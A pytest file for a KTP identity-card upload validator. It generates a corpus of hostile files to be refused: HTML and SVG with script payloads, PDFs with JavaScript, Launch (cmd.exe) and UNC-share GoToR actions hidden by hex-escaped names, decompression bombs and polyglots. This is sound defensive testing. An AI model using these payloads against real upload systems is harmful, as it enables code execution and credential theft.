"""KTP upload checks: a corpus of bad uploads, each refused for its own reason, and good files."""

from __future__ import annotations

import io
import zipfile
from collections.abc import AsyncIterator, Callable

import pytest
from _pytest.mark import ParameterSet
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

from adapters.intake.errors import MESSAGES, RejectCode, UploadRejected
from adapters.intake.jpeg_check import JpegPolicy
from adapters.intake.upload_checks import (
    AsyncReadable,
    check_ktp_upload,
    parse_size,
    read_capped,
)
from tests.support.hostile_files import object_stream_bomb

MB = 1024 * 1024

# --- makers of test files ------------------------------------------------------------------


def make_jpeg(
    size: tuple[int, int] = (640, 400), *, exif: Image.Exif | None = None, **save: object
) -> bytes:
    image = Image.new("RGB", size, (200, 40, 40))
    for x in range(0, size[0], 20):  # some detail, so decoding is real work
        image.paste((20, 20, 200), (x, 0, x + 10, size[1]))
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=85, exif=exif or Image.Exif(), **save)
    return out.getvalue()


def make_image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (300, 300), (1, 2, 3)).save(out, format=fmt)
    return out.getvalue()


def make_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("ktp.jpg.exe", b"MZ\x90\x00 not a photo")
    return out.getvalue()


def with_dimensions(jpeg: bytes, width: int, height: int, *, sof_marker: bytes = b"\xc0") -> bytes:
    """Rewrite the SOF header's size: a tiny file that claims a huge image (SOF0 baseline,
    SOF2 progressive)."""
    sof = jpeg.index(b"\xff" + sof_marker)
    patched = bytearray(jpeg)
    patched[sof + 5 : sof + 7] = height.to_bytes(2, "big")
    patched[sof + 7 : sof + 9] = width.to_bytes(2, "big")
    return bytes(patched)


def pdf_from_objects(objects: list[bytes], *, root: int = 1) -> bytes:
    """A hand-written PDF whose objects are exactly `objects` (numbered from 1), with a
    correct xref table: lets a test put any construct where a parser would look."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


PAGE_TREE = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>",
]


def pdf_with(
    catalog_extra: bytes = b"", page_extra: bytes = b"", more: list[bytes] | None = None
) -> bytes:
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            PAGE_TREE[0],
            PAGE_TREE[1] % page_extra,
            *(more or []),
        ]
    )


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(595, 842)
    return written(writer)


def pdf_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("rahasia", algorithm="RC4-128")
    return written(writer)


def pdf_with_pypdf_js() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('x');"))
    return written(writer)


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("data.exe", b"MZ\x90\x00")
    return written(writer)


def pdf_with_xfa() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): writer._add_object(DictionaryObject()),
            NameObject("/XFA"): writer._add_object(xfa),
        }
    )
    return written(writer)


GOOD_JPEG = make_jpeg()
GOOD_PDF = pdf_pages(1)
URI_ACTION = b"<< /S /URI /URI (https://x.invalid/bayar) >>"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"

# --- the corpus: (name, bytes, expected code) ----------------------------------------------

BAD_UPLOADS: list[tuple[str, Callable[[], bytes], RejectCode] | ParameterSet] = [
    ("empty.jpg", lambda: b"", RejectCode.EMPTY),
    ("2mb_plus_1.jpg", lambda: b"\xff\xd8\xff" + b"\x00" * (2 * MB + 1 - 3), RejectCode.TOO_LARGE),
    ("html_renamed.jpg", lambda: HTML, RejectCode.MARKUP),
    (
        "svg_renamed.jpg",
        lambda: (
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
        ),
        RejectCode.MARKUP,
    ),
    (
        "utf16_html.jpg",
        lambda: b"\xff\xfe" + "<html></html>".encode("utf-16-le"),
        RejectCode.MARKUP,
    ),
    ("png_renamed.jpg", lambda: make_image("PNG"), RejectCode.IMAGE_FORMAT),
    ("gif_renamed.jpg", lambda: make_image("GIF"), RejectCode.IMAGE_FORMAT),
    ("webp_renamed.jpg", lambda: make_image("WEBP"), RejectCode.IMAGE_FORMAT),
    ("zip_renamed.jpg", make_zip, RejectCode.ARCHIVE),
    ("exe_renamed.pdf", lambda: b"MZ\x90\x00\x03" + b"\x00" * 200, RejectCode.NOT_JPG_OR_PDF),
    ("fake_jpeg_header.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, RejectCode.JPEG_INVALID),
    (
        "jpeg_header_then_garbage.jpg",
        lambda: GOOD_JPEG[:20] + b"\x13\x37" * 500,
        RejectCode.JPEG_INVALID,
    ),
    ("truncated.jpg", lambda: GOOD_JPEG[: len(GOOD_JPEG) // 2], RejectCode.JPEG_TRUNCATED),
    (
        "wide_39000x1000.jpg",  # issue 15 #1's shape (its pixels under the 40 MP limit)
        lambda: with_dimensions(GOOD_JPEG, 39000, 1000),
        RejectCode.IMAGE_BAD_SHAPE,
    ),
    (
        "progressive_6000x6000.jpg",  # square, 36 MP, but a 216 MB coefficient buffer
        lambda: with_dimensions(make_jpeg(progressive=True), 6000, 6000, sof_marker=b"\xc2"),
        RejectCode.PROGRESSIVE_TOO_LARGE,
    ),
    (
        "bomb_60000x60000.jpg",
        lambda: with_dimensions(GOOD_JPEG, 60000, 60000),
        RejectCode.IMAGE_TOO_LARGE,
    ),
    pytest.param(
        "bomb_7000x7000.jpg",  # between Pillow's 1x and 2x limit: its warning, made an error
        lambda: with_dimensions(GOOD_JPEG, 7000, 7000),
        RejectCode.IMAGE_TOO_LARGE,
        marks=pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning"),
    ),
    ("tiny.jpg", lambda: make_jpeg((60, 40)), RejectCode.IMAGE_TOO_SMALL),
    ("fake_pdf_header.pdf", lambda: b"%PDF-1.7\n" + HTML, RejectCode.PDF_INVALID),
    ("truncated.pdf", lambda: GOOD_PDF[: len(GOOD_PDF) // 2] + b"%%EOF", RejectCode.PDF_INVALID),
    ("encrypted.pdf", pdf_encrypted, RejectCode.PDF_ENCRYPTED),
    ("no_pages.pdf", lambda: written(PdfWriter()), RejectCode.PDF_NO_PAGES),
    ("six_pages.pdf", lambda: pdf_pages(6), RejectCode.PDF_TOO_MANY_PAGES),
    ("javascript_names.pdf", pdf_with_pypdf_js, RejectCode.PDF_JAVASCRIPT),
    (
        "javascript_openaction_hex_name.pdf",  # /J#61vaScript defeats a byte search, not a parser
        lambda: pdf_with(
            b"/OpenAction 4 0 R", more=[b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"]
        ),
        RejectCode.PDF_JAVASCRIPT,
    ),
    (
        "javascript_annotation.pdf",
        lambda: pdf_with(
            page_extra=b"/Annots [4 0 R]",
            more=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
                b" /A << /S /J#61vaScript /J#53 (x) >> >>"
            ],
        ),
        RejectCode.PDF_JAVASCRIPT,
    ),
    (
        "launch_action.pdf",
        lambda: pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        RejectCode.PDF_LAUNCH,
    ),
    (
        "launch_hex_name.pdf",
        lambda: pdf_with(page_extra=b"/AA << /O << /S /L#61unch /F (calc.exe) >> >>"),
        RejectCode.PDF_LAUNCH,
    ),
    ("embedded_file.pdf", pdf_with_attachment, RejectCode.PDF_EMBEDDED_FILE),
    ("xfa_form.pdf", pdf_with_xfa, RejectCode.PDF_ACTIVE_CONTENT),
    (
        "submit_form.pdf",
        lambda: pdf_with(b"/OpenAction << /S /SubmitForm /F (http://x.invalid/) >>"),
        RejectCode.PDF_ACTIVE_CONTENT,
    ),
    ("pdf_html_polyglot.pdf", lambda: GOOD_PDF + HTML, RejectCode.PDF_HIDDEN_DATA),
    ("object_stream_bomb.pdf", object_stream_bomb, RejectCode.PDF_TOO_COMPLEX),
    (
        "uri_link.pdf",
        lambda: pdf_with(
            page_extra=b"/Annots [4 0 R]",
            more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>", URI_ACTION],
        ),
        RejectCode.PDF_LINK,
    ),
    (
        "gotor_unc_share.pdf",  # opening it sends the operator's Windows credentials
        lambda: pdf_with(
            b"/OpenAction << /S /GoT#6FR /F (\\\\198.51.100.7\\x\\a.pdf) /D [0 /Fit] >>"
        ),
        RejectCode.PDF_LINK,
    ),
    (
        "openaction_uri_hex_name.pdf",
        lambda: pdf_with(b"/OpenAction << /S /U#52I /U#52I (https://x.invalid/) >>"),
        RejectCode.PDF_LINK,
    ),
    (
        "page_open_action.pdf",
        lambda: pdf_with(page_extra=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
        RejectCode.PDF_LINK,
    ),
]


def _values(case: tuple[str, Callable[[], bytes], RejectCode] | ParameterSet) -> tuple[object, ...]:
    return tuple(case.values) if isinstance(case, ParameterSet) else case


@pytest.mark.parametrize(
    ("name", "make", "code"), BAD_UPLOADS, ids=[str(_values(case)[0]) for case in BAD_UPLOADS]
)
def test_bad_upload_is_refused_with_its_own_message(
    name: str, make: Callable[[], bytes], code: RejectCode
) -> None:
    with pytest.raises(UploadRejected) as caught:
        check_ktp_upload(make())

    assert caught.value.code is code, name
    assert caught.value.message == str(caught.value)
    assert caught.value.message_id == f"upload.{code.value}"


def test_corpus_covers_every_reason_but_kind_not_accepted() -> None:
    assert len(BAD_UPLOADS) >= 15
    covered = {_values(case)[2] for case in BAD_UPLOADS}
    assert set(RejectCode) - covered == {RejectCode.KIND_NOT_ACCEPTED}


def test_every_reason_has_a_distinct_indonesian_message() -> None:
    texts = list(MESSAGES.values())
    assert set(MESSAGES) == set(RejectCode)
    assert len(set(texts)) == len(texts)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (RejectCode.TOO_LARGE, "Berkas terlalu besar: maksimal 2 MB."),
        (RejectCode.NOT_JPG_OR_PDF, "Berkas bukan JPG atau PDF yang sah."),
        (RejectCode.PDF_JAVASCRIPT, "PDF berisi JavaScript tidak diterima."),
        (RejectCode.PDF_ENCRYPTED, "PDF terkunci kata sandi tidak diterima."),
    ],
)
def test_messages_read_as_the_applicant_sees_them(code: RejectCode, expected: str) -> None:
    make: dict[RejectCode, Callable[[], bytes]] = {
        RejectCode.TOO_LARGE: lambda: b"x" * (2 * MB + 1),
        RejectCode.NOT_JPG_OR_PDF: lambda: b"\x00\x01\x02 random",
        RejectCode.PDF_JAVASCRIPT: pdf_with_pypdf_js,
        RejectCode.PDF_ENCRYPTED: pdf_encrypted,
    }
    data = make[code]()
    with pytest.raises(UploadRejected, match="^" + expected.replace(".", r"\.") + "$"):
        check_ktp_upload(data)


def test_format_messages_name_the_format() -> None:
    with pytest.raises(UploadRejected) as caught:
        check_ktp_upload(make_image("PNG"))
    assert "PNG" in caught.value.message
    assert caught.value.http_status == 415


def test_http_status_per_kind_of_reason() -> None:
    assert UploadRejected(RejectCode.TOO_LARGE, limit="2 MB").http_status == 413
    assert UploadRejected(RejectCode.MARKUP).http_status == 415
    assert UploadRejected(RejectCode.PDF_JAVASCRIPT).http_status == 422


# --- limits as parameters --------------------------------------------------------------------


def test_pdf_refused_when_the_field_accepts_only_jpg() -> None:
    with pytest.raises(UploadRejected) as caught:
        check_ktp_upload(GOOD_PDF, accept=["JPG"])
    assert caught.value.code is RejectCode.KIND_NOT_ACCEPTED
    assert caught.value.message == "Berkas PDF tidak diterima di isian ini. Kirim JPG."


def test_size_limit_is_a_parameter() -> None:
    assert check_ktp_upload(GOOD_JPEG, max_bytes=len(GOOD_JPEG)).kind == "jpg"
    with pytest.raises(UploadRejected, match="maksimal 1 KB") as caught:
        check_ktp_upload(GOOD_JPEG, max_bytes=1024)
    assert caught.value.http_status == 413


def test_unknown_kind_in_accept_is_a_configuration_error() -> None:
    with pytest.raises(ValueError, match="png"):
        check_ktp_upload(GOOD_JPEG, accept=["jpg", "png"])


@pytest.mark.parametrize(
    ("text", "size"), [("2MB", 2 * MB), ("2 mb", 2 * MB), ("500KB", 500 * 1024), ("1048576", MB)]
)
def test_parse_size(text: str, size: int) -> None:
    assert parse_size(text) == size


def test_parse_size_refuses_nonsense() -> None:
    with pytest.raises(ValueError):
        parse_size("two megabytes")


# --- good files ------------------------------------------------------------------------------


def test_good_jpeg_is_reencoded_without_exif_or_appended_bytes() -> None:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x9286] = "secret-comment-in-exif"  # UserComment-like free text
    appended = b"\x00" * 32 + b"MotionPhoto_Data" + bytes(range(256))  # innocuous trailer
    upload = make_jpeg(exif=exif) + appended
    assert b"PhoneMaker" in upload

    checked = check_ktp_upload(upload)

    assert (checked.kind, checked.content_type, checked.extension) == ("jpg", "image/jpeg", ".jpg")
    assert checked.data != upload
    assert checked.data.endswith(b"\xff\xd9")
    assert b"PhoneMaker" not in checked.data and b"MotionPhoto" not in checked.data
    assert b"Exif\x00\x00" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.format == "JPEG" and image.mode == "RGB"
        assert image.size == (640, 400)
        assert len(image.getexif()) == 0


def test_exif_orientation_is_applied_before_exif_is_dropped() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise to display
    checked = check_ktp_upload(make_jpeg((640, 400), exif=exif))
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.size == (400, 640)


def test_large_jpeg_is_scaled_down_to_max_side() -> None:
    checked = check_ktp_upload(make_jpeg((1600, 1000)), jpeg=JpegPolicy(max_side=800))
    with Image.open(io.BytesIO(checked.data)) as image:
        assert max(image.size) == 800


def test_cmyk_jpeg_is_stored_as_rgb() -> None:
    out = io.BytesIO()
    Image.new("CMYK", (400, 300), (0, 50, 100, 0)).save(out, format="JPEG")
    checked = check_ktp_upload(out.getvalue())
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.mode == "RGB"


def test_good_pdf_is_accepted_unchanged() -> None:
    checked = check_ktp_upload(GOOD_PDF)
    assert (checked.kind, checked.content_type, checked.extension) == (
        "pdf",
        "application/pdf",
        ".pdf",
    )
    assert checked.data == GOOD_PDF


def test_hand_written_pdf_with_an_internal_link_and_open_view_is_accepted() -> None:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    data = pdf_with(b"/OpenAction [3 0 R /XYZ null null 0]", b"/Annots [4 0 R]", more=[link])
    assert check_ktp_upload(data).data == data


@pytest.mark.parametrize(
    "appended",
    [HTML, make_zip(), b"%PDF-1.7 polyglot"],
    ids=["html", "zip", "pdf"],
)
def test_jpeg_polyglot_is_accepted_and_stored_without_the_appended_file(appended: bytes) -> None:
    checked = check_ktp_upload(GOOD_JPEG + appended)
    assert appended not in checked.data and b"PK\x03\x04" not in checked.data
    assert checked.data.endswith(b"\xff\xd9") and checked.data.count(b"\xff\xd9") == 1


def test_jpeg_comment_with_markup_is_accepted_and_the_comment_dropped() -> None:
    """Issue 15 #13: re-encoding removes comments, so a comment is no reason to refuse."""
    upload = make_jpeg(comment=b"<script>alert(1)</script>")
    checked = check_ktp_upload(upload)
    assert b"<script>" in upload and b"<script>" not in checked.data
    assert b"\xff\xfe" not in checked.data.split(b"\xff\xda")[0]  # no COM segment


def test_jpeg_at_the_pixel_limit_decodes_at_reduced_scale() -> None:
    """A baseline 40 MP photo is accepted; libjpeg decodes it at 1/2 scale (draft)."""
    checked = check_ktp_upload(with_dimensions(GOOD_JPEG, 7000, 5600), jpeg=JpegPolicy())
    with Image.open(io.BytesIO(checked.data)) as image:
        assert max(image.size) <= JpegPolicy().max_side


# --- streaming size cap ----------------------------------------------------------------------


class RecordingUpload:
    """Stands in for starlette's UploadFile: records how much was read."""

    def __init__(self, data: bytes) -> None:
        self._stream = io.BytesIO(data)
        self.bytes_read = 0

    async def read(self, size: int = -1) -> bytes:
        chunk = self._stream.read(size)
        self.bytes_read += len(chunk)
        return chunk


async def test_read_capped_stops_one_byte_past_the_limit() -> None:
    upload = RecordingUpload(b"a" * (5 * MB))
    assert isinstance(upload, AsyncReadable)

    with pytest.raises(UploadRejected) as caught:
        await read_capped(upload, 2 * MB)

    assert caught.value.code is RejectCode.TOO_LARGE
    assert upload.bytes_read == 2 * MB + 1


async def test_read_capped_returns_everything_up_to_the_limit() -> None:
    data = bytes(range(256)) * 4096  # exactly 1 MiB
    assert await read_capped(RecordingUpload(data), MB) == data


async def test_read_capped_stops_pulling_an_async_stream() -> None:
    pulled = 0

    async def body() -> AsyncIterator[bytes]:
        nonlocal pulled
        for _ in range(100):
            pulled += 1
            yield b"b" * (64 * 1024)

    with pytest.raises(UploadRejected, match="maksimal 2 MB"):
        await read_capped(body(), 2 * MB)
    assert pulled == 33  # 32 chunks are exactly 2 MiB; the 33rd crosses the limit


async def test_read_capped_accepts_a_small_stream() -> None:
    async def body() -> AsyncIterator[bytes]:
        yield b"abc"
        yield b"def"

    assert await read_capped(body(), 10) == b"abcdef"


def test_scanned_style_pdf_with_an_image_is_accepted() -> None:
    out = io.BytesIO()
    Image.open(io.BytesIO(GOOD_JPEG)).save(out, format="PDF", resolution=150)
    checked = check_ktp_upload(out.getvalue())
    assert checked.kind == "pdf"
